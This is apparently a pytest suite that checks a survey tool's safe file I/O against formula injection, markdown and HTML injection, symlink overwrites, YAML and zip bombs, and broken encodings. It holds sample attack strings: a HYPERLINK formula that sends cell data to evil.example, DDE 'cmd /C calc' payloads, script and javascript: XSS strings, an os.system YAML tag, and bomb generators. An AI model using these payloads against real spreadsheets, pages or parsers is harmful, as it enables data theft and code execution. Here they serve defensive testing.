"""Hostile and broken files against the guarded writer and reader (servqual._safeio).

One test (at least) per attack class, each with the attack planted in a file generated here, the
assertion made on the bytes written, the inputs' sha256 unchanged, and bounded time.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import threading
import time
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

from servqual._safeio import (
    FORMULA_TRIGGERS,
    InputFileError,
    OutputFileError,
    OutputPlan,
    atomic_write,
    check_input_file,
    check_output_file,
    check_output_folder,
    check_xlsx,
    decode_text,
    escape_markdown,
    neutralise_cell,
    read_input_bytes,
    read_text_file,
    safe_yaml_load,
    sheet_name,
    write_csv,
    write_xlsx,
)
from servqual.exceptions import ServqualError

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tleading tab",
    "\rleading CR",
    "  =1+1",
    "\n@x",
    "\x00=1",
]
NUMBERS = [-2, -0.5, 3, 1e-20]


def sha256(path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def starts_like_formula(text: str) -> bool:
    return text[:1] in ("\t", "\r") or text.lstrip()[:1] in FORMULA_TRIGGERS


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def assert_clear(exc: BaseException) -> None:
    """A refusal the command line turns into one line and exit 2: a ServqualError and a ValueError,
    one line of text, no traceback."""
    assert isinstance(exc, ServqualError) and isinstance(exc, ValueError)
    msg = str(exc)
    assert "Traceback" not in msg and "\n" not in msg and msg


def bounded(fn, seconds: float = 5.0):
    """Run ``fn`` in a thread; fail when it does not return within ``seconds``."""
    box = {}

    def run():
        try:
            box["value"] = fn()
        except BaseException as e:  # noqa: BLE001 - handed back to the test
            box["error"] = e

    t = threading.Thread(target=run, daemon=True)
    start = time.perf_counter()
    t.start()
    t.join(seconds)
    assert not t.is_alive(), f"did not return within {seconds} s"
    return box, time.perf_counter() - start


def hostile_frame() -> pd.DataFrame:
    n = len(ATTACKS)
    return pd.DataFrame({
        "=id": ATTACKS,
        "@label": ["ok"] * n,
        "x": (NUMBERS * n)[:n],
        "mixed": [ATTACKS[i] if i % 2 else NUMBERS[i % len(NUMBERS)] for i in range(n)],
    })


# --------------------------------------------------------------------------------------------------
# 1. Spreadsheet formula injection
# --------------------------------------------------------------------------------------------------
def test_neutralise_cell_matches_the_report_writer():
    from servqual.reporting.report import neutralise_cell as report_neutralise

    values = ATTACKS + NUMBERS + ["plain", "a-b", "", " ", "x\x07y", None, 1.5, "名称", "＝1"]
    assert [neutralise_cell(v) for v in values] == [report_neutralise(v) for v in values]
    assert neutralise_cell(-2) == -2 and neutralise_cell("-2+3") == "'-2+3"
    assert neutralise_cell("a\x07=b", marker="\ufffd") == "a\ufffd=b"


def test_csv_cells_and_headers_are_neutralised_and_cr_lf_quoted(tmp_path):
    df = hostile_frame()
    df.loc[0, "@label"] = "line1\rline2"  # a CR would split an unquoted record
    df.loc[1, "@label"] = "line1\nline2"
    p = write_csv(df, tmp_path / "flags.csv", bom=False)
    raw = p.read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert len(rows) == len(df) + 1  # no record was split
    for row in rows:
        assert len(row) == df.shape[1]
        for cell in row:  # a CSV field starting like a formula must be a plain number ("-2.0")
            assert not starts_like_formula(cell) or is_number(cell), cell
    assert b'"line1\rline2"' in raw and b'"line1\nline2"' in raw
    # numbers stay numbers, a negative number is not a formula
    back = pd.read_csv(io.BytesIO(raw))
    assert back["x"].tolist() == df["x"].tolist()
    assert rows[0][:2] == ["'=id", "'@label"]


def test_csv_of_a_harmless_frame_is_byte_identical_to_pandas(tmp_path):
    df = pd.DataFrame({
        "item": ["q1", "q2", "a, b", 'say "hi"', "名称"],
        "mean": [4.25, 0.1 + 0.2, np.nan, -1.5, 1e-20],
        "n": [10, 20, 30, 40, 50],
        "ok": [True, False, True, True, False],
        "when": pd.to_datetime(["2024-01-01 00:00:00", "2024-01-02 10:30:00", None, "2024-03-01", "2024-04-01"], format="ISO8601"),
    }, index=pd.Index(["a", "b", "c", "d", "e"], name="key"))
    for index in (False, True):
        p = write_csv(df, tmp_path / "t.csv", index=index)
        assert p.read_bytes() == df.to_csv(index=index, encoding="utf-8-sig").encode("utf-8-sig")


def test_csv_bom_index_and_missing_values(tmp_path):
    df = pd.DataFrame({"q1": [1.0, np.nan], "t": [pd.NA, "=x"]}, index=pd.Index(["=r1", "00033"], name="@id"))
    p = write_csv(df, tmp_path / "t.csv", index=True)
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig") == "'@id,q1,t\n'=r1,1.0,\n00033,,'=x\n"


def _xlsx_texts(path) -> tuple:
    """Every text and number stored in a workbook, read from its XML."""
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        shared = zf.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in names else ""
        sheets = [zf.read(n).decode("utf-8") for n in names if n.startswith("xl/worksheets/")]
        workbook = zf.read("xl/workbook.xml").decode("utf-8")
    import html

    texts = [html.unescape(t) for t in re.findall(r"<t[^>]*>(.*?)</t>", shared, flags=re.S)]
    for s in sheets:
        texts += [html.unescape(t) for t in re.findall(r"<is><t[^>]*>(.*?)</t></is>", s, flags=re.S)]
    numbers = [v for s in sheets for v in re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")?(?: t="n")?><v>([^<]*)</v></c>', s)]
    formulas = [f for s in sheets for f in re.findall(r"<f[ >]", s)]
    titles = re.findall(r'<sheet [^>]*name="([^"]*)"', workbook)
    return texts, numbers, formulas, titles


def test_xlsx_cells_are_neutralised_in_the_xml(tmp_path):
    df = hostile_frame()
    p = write_xlsx({"flags": df, "=evil[1]:*?/\\": df.head(2)}, tmp_path / "out.xlsx")
    texts, numbers, formulas, titles = _xlsx_texts(p)
    assert formulas == []
    assert texts and not [t for t in texts if starts_like_formula(t)]
    assert "'=id" in texts and "'-2+3" in texts
    assert {-2.0, -0.5, 3.0} <= {float(n) for n in numbers}
    assert titles == ["flags", "=evil_1______"]
    # the workbook opens and the numbers are numbers
    import openpyxl

    ws = openpyxl.load_workbook(p)["flags"]
    assert [c.value for c in ws["C"]][1:5] == NUMBERS


def test_xlsx_control_characters_are_removed_or_marked(tmp_path):
    df = pd.DataFrame({"item\x0b": ["we\x00ll", "bell\x07", "ok"]})
    texts, *_ = _xlsx_texts(write_xlsx({"s\x01": df}, tmp_path / "a.xlsx"))
    assert {"item", "well", "bell", "ok"} <= set(texts)
    texts, *_ = _xlsx_texts(write_xlsx({"s": df}, tmp_path / "b.xlsx", marker="\ufffd"))
    assert "we\ufffdll" in texts and "bell\ufffd" in texts


def test_sheet_names_are_valid_and_unique():
    used = set()
    names = [sheet_name(k, used) for k in ["History", "a" * 40, "A" * 40, "'q'", "x\x00y", ""]]
    assert names == ["Sheet_History", "a" * 31, "A" * 29 + "_2", "q", "xy", "Sheet"]
    assert all(len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)


# --------------------------------------------------------------------------------------------------
# 2. Markdown / HTML injection
# --------------------------------------------------------------------------------------------------
MD_ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(document.cookie))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "a | b || c",
    "# heading\n- list\n1. numbered\n===",
    "`code` *em* _em_ ~~del~~ \\",
]


def test_markdown_output_is_inert(tmp_path):
    p = tmp_path / "form.md"
    body = "\n\n".join(escape_markdown(a) for a in MD_ATTACKS)
    with atomic_write(p) as fh:
        fh.write(body)
    text = p.read_text(encoding="utf-8")
    low = text.lower()
    assert "<script" not in low and "<img" not in low and "<javascript" not in low
    assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", text)  # no unescaped link bracket pair
    markdown_it = pytest.importorskip("markdown_it")
    html_out = markdown_it.MarkdownIt("commonmark").enable("table").render(text).lower()
    assert "<script" not in html_out and "<img" not in html_out and "href" not in html_out
    assert "<h1" not in html_out and "<li" not in html_out and "<code" not in html_out and "<em" not in html_out
    for a in MD_ATTACKS[:3]:
        # renders as the same characters
        assert markdown_it.MarkdownIt("commonmark").renderInline(escape_markdown(a)).replace("&quot;", '"') == \
            a.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_markdown_table_cell_stays_one_cell():
    cell = escape_markdown("a|b\nc", inline=True)
    assert "\n" not in cell and "\\|" in cell


# --------------------------------------------------------------------------------------------------
# 3. Writing through a link, or onto an input
# --------------------------------------------------------------------------------------------------
@pytest.fixture
def run_inputs(tmp_path):
    q = tmp_path / "questionnaire.yaml"
    q.write_text("id: kiosk\nitems: []\n", encoding="utf-8")
    d = tmp_path / "data.csv"
    d.write_text("q1\n1\n", encoding="utf-8")
    return q, d, {q: sha256(q), d: sha256(d)}


def test_symlink_at_destination_is_refused_and_input_unchanged(tmp_path, run_inputs):
    q, d, before = run_inputs
    out = tmp_path / "out"
    out.mkdir()
    (out / "results.json").symlink_to(q)
    (out / "other.json").symlink_to(tmp_path / "nowhere.json")  # a dangling link
    with pytest.raises(OutputFileError) as e:
        with atomic_write(out / "results.json", inputs=[q, d]) as fh:
            fh.write("{}")
    assert str(q) in str(e.value) and str(out / "results.json") in str(e.value)
    assert_clear(e.value)
    with pytest.raises(OutputFileError, match="symbolic link"):
        with atomic_write(out / "other.json") as fh:
            fh.write("{}")
    assert not (tmp_path / "nowhere.json").exists()
    assert {p: sha256(p) for p in before} == before
    assert (out / "results.json").is_symlink()


def test_input_as_output_is_refused_by_path_and_by_hard_link(tmp_path, run_inputs):
    q, d, before = run_inputs
    hard = tmp_path / "out" / "report.xlsx"
    hard.parent.mkdir()
    os.link(d, hard)
    for target in (d, tmp_path / "." / "data.csv", hard):
        with pytest.raises(OutputFileError) as e:
            write_csv(pd.DataFrame({"a": [1]}), target, inputs=[q, d])
        assert str(d) in str(e.value) and str(target) in str(e.value)
        assert_clear(e.value)
    plan = OutputPlan(inputs=[q, d])
    with pytest.raises(OutputFileError, match="input file"):
        plan.folder(tmp_path / "out", files=["results.json", "report.xlsx"])
    assert {p: sha256(p) for p in before} == before


# --------------------------------------------------------------------------------------------------
# 6 and 10. Nothing half-written; the output place is checked first
# --------------------------------------------------------------------------------------------------
def test_interrupt_or_error_leaves_the_old_file_and_no_temporary(tmp_path):
    p = tmp_path / "results.json"
    p.write_text("old", encoding="utf-8")
    for exc in (KeyboardInterrupt(), OSError(28, "No space left on device")):
        with pytest.raises(type(exc)):
            with atomic_write(p) as fh:
                fh.write("half")
                raise exc
        assert p.read_text(encoding="utf-8") == "old"
        assert sorted(x.name for x in tmp_path.iterdir()) == ["results.json"]
    plan = OutputPlan()
    assert plan.interrupted_message() == "interrupted; nothing written"
    plan.write_text(p, "new")
    assert p.read_text(encoding="utf-8") == "new" and plan.interrupted_message() == f"interrupted; written: {p}"


@pytest.mark.parametrize("case", ["out_is_file", "o_is_folder", "missing_parent", "empty", "empty_folder",
                                  "unwritable", "device"])
def test_bad_output_places_each_get_one_clear_error(tmp_path, case):
    existing = tmp_path / "existing.txt"
    existing.write_text("keep", encoding="utf-8")
    calls = {
        "out_is_file": (lambda: check_output_folder(existing, what="--out folder"), "is an existing file"),
        "o_is_folder": (lambda: check_output_file(tmp_path, what="-o file"), "is a folder"),
        "missing_parent": (lambda: check_output_file(tmp_path / "no" / "x.csv"), "does not exist"),
        "empty": (lambda: check_output_file(""), "empty"),
        "empty_folder": (lambda: check_output_folder(""), "empty"),
        "unwritable": (lambda: check_output_file("/proc/self/x.csv"), "not writable"),
        "device": (lambda: check_output_file("/dev/full"), "character device"),
    }
    fn, words = calls[case]
    with pytest.raises(OutputFileError, match=words) as e:
        fn()
    assert_clear(e.value)
    assert existing.read_text(encoding="utf-8") == "keep"


def test_unwritable_folder_by_permission(tmp_path, monkeypatch):
    """A folder where the probe file cannot be created (root ignores mode bits, so the refusal is simulated)."""
    import servqual._safeio as safeio

    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(safeio.tempfile, "mkstemp", refuse)
    with pytest.raises(OutputFileError, match=r"folder .* is not writable \(Permission denied\)") as e:
        check_output_file(tmp_path / "x.csv")
    assert_clear(e.value)
    with pytest.raises(OutputFileError, match="not writable"):
        check_output_folder(tmp_path / "new")


def test_plan_creates_declared_folders_only_when_writing(tmp_path):
    plan = OutputPlan()
    out = plan.folder(tmp_path / "a" / "b", files=["t.csv"])
    assert not out.exists()
    plan.write_csv(pd.DataFrame({"x": [1]}), out / "t.csv", bom=False)
    plan.write_xlsx({"x": pd.DataFrame({"x": [1]})}, out / "t.xlsx")
    assert (out / "t.csv").read_bytes() == b"x\n1\n" and plan.written == [out / "t.csv", out / "t.xlsx"]
    assert oct((out / "t.csv").stat().st_mode & 0o777) != oct(0o600)


# --------------------------------------------------------------------------------------------------
# 5. Denial of service: non-regular files, size, YAML bombs, zip bombs, huge sheets
# --------------------------------------------------------------------------------------------------
def test_fifo_is_refused_before_open(tmp_path):
    fifo = tmp_path / "data.csv"
    os.mkfifo(fifo)
    for fn in (lambda: check_input_file(fifo, "data"), lambda: read_input_bytes(fifo, "questionnaire"),
               lambda: read_text_file(fifo), lambda: check_xlsx(fifo)):
        box, seconds = bounded(fn)
        assert isinstance(box.get("error"), InputFileError) and "named pipe" in str(box["error"])
        assert_clear(box["error"])
        assert seconds < 5


@pytest.mark.parametrize("path, words", [("/dev/zero", "character device"), (".", "folder")])
def test_devices_and_folders_are_refused(path, words):
    box, _ = bounded(lambda: read_input_bytes(path, "data"))
    assert isinstance(box.get("error"), InputFileError) and words in str(box["error"])


def test_size_limit_says_how_to_raise_it(tmp_path):
    p = tmp_path / "big.yaml"
    p.write_bytes(b"a: 1\n" * 1000)
    before = sha256(p)
    with pytest.raises(InputFileError, match=r"over the limit .*max_bytes=") as e:
        read_input_bytes(p, "questionnaire", max_bytes=1000)
    assert e.value.limit == "max_bytes"
    with pytest.raises(InputFileError, match="--max-size"):
        check_input_file(p, "questionnaire", 1000, hint="use --max-size to raise the limit")
    assert read_input_bytes(p, "questionnaire", max_bytes=None) == b"a: 1\n" * 1000
    with pytest.raises(InputFileError, match="does not exist"):
        check_input_file(tmp_path / "none.csv")
    assert sha256(p) == before


def _bomb(levels: int = 9, width: int = 10) -> str:
    lines = ["a0: &a0 [" + ", ".join(["lol"] * width) + "]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    return "\n".join(lines) + "\ntext: *a%d\n" % (levels - 1)


def test_yaml_alias_bomb_is_refused_fast(tmp_path):
    p = tmp_path / "q.yaml"
    p.write_text(_bomb(), encoding="utf-8")
    before = sha256(p)
    box, seconds = bounded(lambda: safe_yaml_load(read_input_bytes(p, "questionnaire"), name=str(p)))
    err = box.get("error")
    assert isinstance(err, InputFileError) and err.limit == "max_aliases" and "max_aliases=" in str(err)
    assert_clear(err)
    assert seconds < 2 and sha256(p) == before
    # a small use of aliases is fine, and the limit is adjustable
    assert safe_yaml_load(_bomb(2, 3))["text"] == [["lol"] * 3] * 3
    assert len(safe_yaml_load(_bomb(4, 10), max_aliases=50_000)["text"]) == 10
    with pytest.raises(InputFileError, match="recursive alias"):
        safe_yaml_load("a: &a [1, *a]\n")


@pytest.mark.parametrize("depth", [60, 5_000])
def test_yaml_deep_nesting_is_refused_without_recursion_error(depth):
    for text in ("[" * depth + "]" * depth, "".join("  " * i + "k:\n" for i in range(depth)) + "  " * depth + "v: 1\n"):
        box, _ = bounded(lambda: safe_yaml_load(text, max_bytes=None))
        err = box.get("error")
        assert isinstance(err, InputFileError) and err.limit == "max_depth", repr(err)[:300]
    assert safe_yaml_load("[" * 60 + "]" * 60, max_depth=100) == eval("[" * 60 + "]" * 60)  # noqa: S307


def test_yaml_size_limit_tags_and_merge_key():
    with pytest.raises(InputFileError, match="max_bytes="):
        safe_yaml_load("a: " + "x" * 2000, max_bytes=1000)
    for bad in ("!!python/object/apply:os.system ['echo hi']", "a: !include other.yaml"):
        with pytest.raises(yaml.YAMLError):
            safe_yaml_load(bad)
    doc = safe_yaml_load("likert: &l {min: 1, max: 5, labels: [a, b]}\n"
                         "q1: {<<: *l, max: 7}\n"
                         "q2:\n  <<: [*l, {extra: 1}]\n")
    assert doc["q1"] == {"min": 1, "max": 7, "labels": ["a", "b"]}
    assert doc["q2"] == {"min": 1, "max": 5, "labels": ["a", "b"], "extra": 1}
    with pytest.raises(yaml.constructor.ConstructorError, match="duplicate key 'a'"):
        safe_yaml_load("a: 1\nb: 2\na: 3\n")


def _write_zip(path, parts: dict) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, (chunk, repeat) in parts.items():
            with zf.open(name, "w", force_zip64=True) as fh:
                for _ in range(repeat):
                    fh.write(chunk)
    return Path(path)


def test_xlsx_zip_bomb_is_refused_from_the_directory(tmp_path):
    p = _write_zip(tmp_path / "bomb.xlsx", {
        "[Content_Types].xml": (b"<Types/>", 1),
        "xl/workbook.xml": (b"<workbook/>", 1),
        "xl/worksheets/sheet1.xml": (b"<c><v>0</v></c>" * 4096, 400),  # ~24 MB of cells, ~25 KB compressed
    })
    assert p.stat().st_size < 200_000
    before = sha256(p)
    box, seconds = bounded(lambda: check_xlsx(p))
    err = box.get("error")
    assert isinstance(err, InputFileError) and err.limit == "max_ratio", repr(err)
    assert_clear(err)
    box, _ = bounded(lambda: check_xlsx(p, max_ratio=1e9, max_uncompressed=10 * 1024**2))
    assert box["error"].limit == "max_uncompressed" and "would inflate" in str(box["error"])
    assert seconds < 2 and sha256(p) == before


def test_xlsx_cell_and_column_limits_from_the_dimension(tmp_path):
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.cell(row=1, column=10_000, value=1)
    wb.create_sheet("tall").cell(row=1_000, column=3_000, value=1)
    p = tmp_path / "wide.xlsx"
    wb.save(p)
    with pytest.raises(InputFileError, match="10,000 columns in sheet 'Sheet'") as e:
        check_xlsx(p)
    assert e.value.limit == "max_columns"
    with pytest.raises(InputFileError, match=r"3,000,000 cells in sheet 'tall' \(1,000 rows x 3,000 columns\)"):
        check_xlsx(p, max_columns=20_000)
    sheets = check_xlsx(p, max_columns=20_000, max_cells=10_000_000)
    assert [(s.name, s.rows, s.columns) for s in sheets] == [("Sheet", 1, 10_000), ("tall", 1_000, 3_000)]


def test_xlsx_without_dimension_has_its_cells_counted(tmp_path):
    src = write_xlsx({"d": pd.DataFrame({"a": range(10), "b": range(10)})}, tmp_path / "a.xlsx")
    dst = tmp_path / "b.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.startswith("xl/worksheets/"):
                data = re.sub(rb"<dimension [^>]*/>", b"", data)
            zout.writestr(info, data)
    [sheet] = check_xlsx(dst)
    assert (sheet.name, sheet.rows, sheet.cells) == ("d", 0, 22)
    with pytest.raises(InputFileError, match="more than 20 cells"):
        check_xlsx(dst, max_cells=20)


def test_html_saved_as_xls_and_other_non_zip(tmp_path):
    p = tmp_path / "export.xls"
    p.write_text("<html><body><table><tr><td>q1</td></tr></table></body></html>", encoding="utf-8")
    with pytest.raises(InputFileError, match="HTML table") as e:
        check_xlsx(p)
    assert_clear(e.value)
    (tmp_path / "x.xlsx").write_bytes(b"not a zip")
    with pytest.raises(InputFileError, match=r"not an \.xlsx"):
        check_xlsx(tmp_path / "x.xlsx")


# --------------------------------------------------------------------------------------------------
# Broken text: mixed encodings, NUL padding
# --------------------------------------------------------------------------------------------------
def test_mixed_utf8_gbk_names_the_first_bad_line(tmp_path):
    p = tmp_path / "mixed.csv"
    p.write_bytes("id,name\n1,北京\n".encode() + "2,上海\n".encode("gbk") + "3,广州\n".encode("gbk"))
    before = sha256(p)
    with pytest.raises(InputFileError, match="line 3 is not UTF-8 while line 2 is") as e:
        read_text_file(p, fallbacks=("gb18030",))
    assert_clear(e.value)
    assert sha256(p) == before
    p.write_bytes("id,name\n2,上海\n".encode("gbk"))
    assert read_text_file(p, fallbacks=("gb18030",)).text == "id,name\n2,上海\n"
    with pytest.raises(InputFileError, match=r"not UTF-8 \(line 2 does not decode\)"):
        read_text_file(p)


def test_nul_padded_tail_and_nul_inside(tmp_path):
    p = tmp_path / "padded.csv"
    p.write_bytes(b"q1,q2\n1,2\n" + b"\x00" * 16_866)
    got = read_text_file(p)
    assert got.text == "q1,q2\n1,2\n" and got.nul_padding == 16_866
    with pytest.raises(InputFileError, match="NUL byte at line 2") as e:
        decode_text(b"q1\n1\x002\n3\n", name="x.csv")
    assert len(str(e.value)) < 200
    assert decode_text("q1\n".encode("utf-16")).text == "q1\n"
